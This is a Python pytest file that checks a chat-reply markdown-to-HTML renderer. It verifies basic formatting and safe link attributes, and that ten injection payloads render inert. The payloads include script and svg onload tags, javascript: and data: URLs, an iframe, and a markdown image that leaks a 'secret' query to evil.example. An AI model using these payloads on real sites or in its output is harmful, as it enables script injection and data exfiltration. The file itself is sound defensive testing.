import re

import pytest

from companion.rendering import reply_html


def test_markdown_becomes_html():
    assert reply_html("**hi**\nthere\n\n- a\n- b") == (
        "<p><strong>hi</strong><br>\nthere</p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"
    )


def test_links_leave_without_a_trace():
    assert reply_html("[x](https://example.org/)") == (
        '<p><a href="https://example.org/" rel="noopener nofollow noreferrer">'
        "x</a></p>\n"
    )


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        '<a href="https://x" style="position:fixed" onclick="alert(1)">x</a>',
        "<iframe src=https://evil.example></iframe>",
        "<svg/onload=alert(1)>",
        "<style>*{display:none}</style>",
        "```\n</code></pre><script>alert(1)</script>\n```",
    ],
)
def test_nothing_runs_and_nothing_is_fetched(attack):
    """What the attack wrote may stand there as words, never as a tag of its own."""
    html = reply_html(attack).lower()
    tags = re.findall(r"<[^>]*>", html)
    assert not [t for t in tags if re.match(r"</?(script|img|iframe|svg|style)", t)]
    assert not [t for t in tags if re.search(r"\s(on\w+|style|src)=", t)]
    assert 'href="javascript' not in html
    assert 'href="data' not in html
